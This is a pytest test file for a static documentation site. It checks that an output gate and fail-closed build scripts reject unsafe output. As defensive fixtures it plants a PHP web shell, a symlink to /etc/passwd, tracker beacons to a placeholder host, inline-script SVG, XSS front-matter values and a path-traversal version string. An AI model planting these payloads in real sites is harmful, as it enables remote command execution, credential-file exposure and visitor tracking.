"""The output gate (scripts/check_output.py, scripts/outputgate/) and the
fail-closed builds (scripts/build_site.py, scripts/build_offline.py), on real
builds: the real site passes; every bad output in tests/corpus/bad-output/
is refused with a message naming the file; a failed build leaves site/ as it
was, and no temporary folder behind."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from conftest import BUILD_ENV, ROOT
from site_helpers import copy_project

sys.path.insert(0, str(ROOT / "scripts"))
from check_output import site_url
from outputgate import check_tree
from outputgate.urls import is_same_site, normalise, scheme

BAD_OUTPUT = ROOT / "tests/corpus/bad-output"
SITE_URL = site_url(ROOT / "mkdocs.yml")


def gate(folder: Path, **kw):
    return check_tree(folder, str(folder), ROOT, ROOT / "docs", SITE_URL, **kw)


def test_the_real_site_and_offline_bundle_pass(built_site, offline_bundle):
    zip_path, _ = offline_bundle
    result = subprocess.run(
        [sys.executable, "scripts/check_output.py", str(built_site), str(zip_path)],
        cwd=ROOT,
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.fixture(scope="module")
def planted(built_site, tmp_path_factory):
    """A copy of the built site with each bad snippet planted in its own copy
    of the home page (same depth, so its own scripts and CSP stay valid)."""
    site = tmp_path_factory.mktemp("planted") / "site"
    shutil.copytree(built_site, site)
    home = (site / "index.html").read_text(encoding="utf-8")
    cut = home.index("<article")
    cut = home.index(">", cut) + 1
    for case in sorted(BAD_OUTPUT.glob("*.html")):
        snippet = case.read_text(encoding="utf-8")
        (site / f"bad-{case.stem}.html").write_text(home[:cut] + snippet + home[cut:], encoding="utf-8")
    return site, gate(site)


@pytest.mark.parametrize("case", sorted(p.stem for p in BAD_OUTPUT.glob("*.html")))
def test_every_bad_output_is_refused(planted, case):
    site, problems = planted
    mine = [p for p in problems if p.output.endswith(f"/bad-{case}.html")]
    assert mine, f"{case}: the gate let it through"
    for problem in mine:
        assert problem.output.startswith(str(site)) and problem.message and problem.hint


def test_nothing_else_in_the_planted_copy_is_reported(planted):
    _, problems = planted
    assert [p.format() for p in problems if "/bad-" not in p.output] == []


def _site_copy(built_site, tmp_path) -> Path:
    site = tmp_path / "site"
    shutil.copytree(built_site, site)
    return site


def test_stylesheets_scripts_svg_file_types_and_links_are_checked(built_site, tmp_path):
    site = _site_copy(built_site, tmp_path)
    css = site / "assets/stylesheets/extra.css"
    css.write_text(
        css.read_text() + '\n@import url("https://fonts.example/a.css");\n'
        "@font-face { font-family: x; src: url(https://fonts.example/x.woff2) }\n"
    )
    (site / "assets/javascripts/tracker.js").write_text("navigator.sendBeacon('https://t.example')")
    theme_js = next((site / "assets/javascripts").glob("bundle.*.min.js"))
    theme_js.write_bytes(theme_js.read_bytes() + b";fetch('https://t.example')")
    (site / "assets/images/evil.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><image href="https://t.example/x.png"/></svg>'
    )
    (site / "shell.php").write_text("<?php system($_GET['c']);")
    (site / "passwd.txt").symlink_to("/etc/passwd")
    found = {(Path(p.output).name, p.rule) for p in gate(site)}
    assert ("extra.css", "remote-resource") in found
    assert ("tracker.js", "script") in found
    assert (theme_js.name, "script") in found
    assert ("evil.svg", "inline-script") in found and ("evil.svg", "remote-resource") in found
    assert ("shell.php", "file-type") in found
    assert ("passwd.txt", "symlink") in found


def test_a_page_without_its_csp_or_with_a_wrong_one_is_refused(built_site, tmp_path):
    site = _site_copy(built_site, tmp_path)
    page = site / "about/index.html"
    html = page.read_text()
    start = html.index('<meta http-equiv="Content-Security-Policy"')
    page.write_text(html[:start] + html[html.index(">", start) + 1 :])
    other = site / "causes/index.html"
    other.write_text(other.read_text().replace("script-src 'self'", "script-src 'self' https:"))
    found = {(p.output.removeprefix(str(site) + "/"), p.rule) for p in gate(site)}
    assert found == {("about/index.html", "csp"), ("causes/index.html", "csp")}


def test_urls_are_read_as_a_browser_reads_them():
    assert scheme(" \x01JaVa\tScRiPt\n:alert(1)") == "javascript"
    assert scheme("javascript\r:x") == "javascript"
    assert scheme("tel:999") == "tel" and scheme("../a/b.html") is None
    assert normalise("\\\\evil.example/x") == "//evil.example/x"
    assert not is_same_site("\\\\evil.example/x.png")
    assert not is_same_site("https://evil.example/x.png", SITE_URL)
    assert is_same_site(SITE_URL + "assets/x.png", SITE_URL)
    assert is_same_site("../assets/x.png#y")


# Fail closed ---------------------------------------------------------------------


def _make_site(work: Path) -> subprocess.CompletedProcess:
    env = {k: v for k, v in BUILD_ENV.items() if k != "OFFLINE"}
    return subprocess.run([sys.executable, "scripts/build_site.py"], cwd=work, env=env, capture_output=True, text=True)


def _leftovers(work: Path) -> list[str]:
    return sorted(p.name for p in work.iterdir() if p.name.startswith(".site."))


@pytest.mark.build
def test_a_failed_build_leaves_site_as_it_was_and_no_temporary_folder(tmp_path):
    work = copy_project(tmp_path / "repo")
    (work / "site").mkdir()
    (work / "site/marker.txt").write_text("previous good site")
    # A leftover of a killed build: its process (pid 999999999 cannot exist) is gone
    stale = work / ".site.build-999999999-1"
    (stale / "sub").mkdir(parents=True)
    page = work / "docs/about/index.md"
    page.write_text(page.read_text() + '\n<img src="https://tracker.example/p.gif" alt="">\n')
    result = _make_site(work)
    assert result.returncode == 1
    assert "docs/about/index.md:" in result.stderr and "remote-resource" in result.stderr
    assert "site/ was left as it was" in result.stderr
    assert "Traceback" not in result.stderr
    assert sorted(p.name for p in (work / "site").iterdir()) == ["marker.txt"]
    assert _leftovers(work) == []


@pytest.mark.build
def test_a_passing_build_replaces_site(tmp_path):
    work = copy_project(tmp_path / "repo")
    (work / "site").mkdir()
    (work / "site/marker.txt").write_text("old")
    result = _make_site(work)
    assert result.returncode == 0, result.stderr
    assert not (work / "site/marker.txt").exists()
    assert 'http-equiv="Content-Security-Policy"' in (work / "site/index.html").read_text()
    assert _leftovers(work) == []


@pytest.mark.parametrize(
    "fault, expected",
    [
        ("snippet", "snippet-missing"),
        ("encoding", "file-encoding"),
    ],
)
@pytest.mark.build
def test_a_crashing_build_says_which_file_without_a_traceback(tmp_path, fault, expected):
    work = copy_project(tmp_path / "repo")
    page = work / "docs/about/index.md"
    if fault == "snippet":
        page.write_text(page.read_text() + '\n--8<-- "no-such-snippet.md"\n')
    else:
        page.write_bytes(page.read_bytes() + b"\n\xff\xfe caf\xe9\n")  # codespell:ignore caf
    result = _make_site(work)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr
    assert "docs/about/index.md:" in result.stderr and expected in result.stderr, result.stderr
    assert not (work / "site").exists() and _leftovers(work) == []


def test_offline_refuses_a_version_with_a_slash(tmp_path):
    result = subprocess.run(
        [sys.executable, "scripts/build_offline.py", "--dist", str(tmp_path), "--version", "1.2/../../x"],
        cwd=ROOT,
        env=BUILD_ENV,
        capture_output=True,
        text=True,
    )
    assert result.returncode == 2 and "cannot be part of a file name" in result.stderr
    assert "Traceback" not in result.stderr and list(tmp_path.iterdir()) == []


@pytest.mark.build
def test_two_offline_builds_at_once_both_succeed_and_leave_nothing(tmp_path):
    dist = tmp_path / "dist"
    dist.mkdir()
    (dist / ".offline-build-999999999-1").mkdir()  # a killed build's leftover
    # The print edition is left out: it is not what this test is about, and two
    # PDFs at once would double its time
    cmd = [sys.executable, "scripts/build_offline.py", "--dist", str(dist), "--version", "9.9.9", "--no-pdf"]
    runs = [
        subprocess.Popen(cmd, cwd=ROOT, env=BUILD_ENV, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        for _ in range(2)
    ]
    outputs = [run.communicate(timeout=300) for run in runs]
    assert [run.returncode for run in runs] == [0, 0], outputs
    assert sorted(os.listdir(dist)) == ["massage-for-sciatica-offline-9.9.9.zip"]
    with zipfile.ZipFile(dist / "massage-for-sciatica-offline-9.9.9.zip") as zf:
        assert zf.testzip() is None


@pytest.mark.build
def test_templates_escape_front_matter_even_with_the_lint_off(tmp_path):
    """Markup in title, description and author reaches the page as text, and
    the reviewer field not at all (the lint refuses it first; here its hook is
    off to test the templates)."""
    work = copy_project(tmp_path / "repo")
    page = work / "docs/about/index.md"
    text = page.read_text()
    evil = {
        "title": '"About <img src=https://t.example/t.gif onerror=alert(1)>"',
        "description": '"x\\"><script>alert(1)</script>"',
        "reviewer": '"<img src=https://t.example/r.gif>"',
    }
    for key, value in evil.items():
        text = re.sub(rf"^{key}: .*$", f"{key}: {value}", text, count=1, flags=re.M)
    page.write_text(text.replace("---\n", '---\nauthor: "<script>alert(2)</script>"\n', 1))
    env = dict({k: v for k, v in BUILD_ENV.items() if k != "OFFLINE"}, PAGELINT_HOOK="0")
    result = subprocess.run(
        [sys.executable, "scripts/build_site.py"], cwd=work, env=env, capture_output=True, text=True, timeout=600
    )
    assert result.returncode == 0, result.stderr  # nothing got into the markup: the gate passes
    html = (work / "site/about/index.html").read_text()
    assert "<title>About &lt;img src=https://t.example/t.gif onerror=alert(1)&gt;" in html
    # The reviewer field is the editors' record, no longer shown to readers (issue #25)
    assert "t.example/r.gif" not in html and "<img src=https://t.example" not in html
    assert "<script>alert" not in html
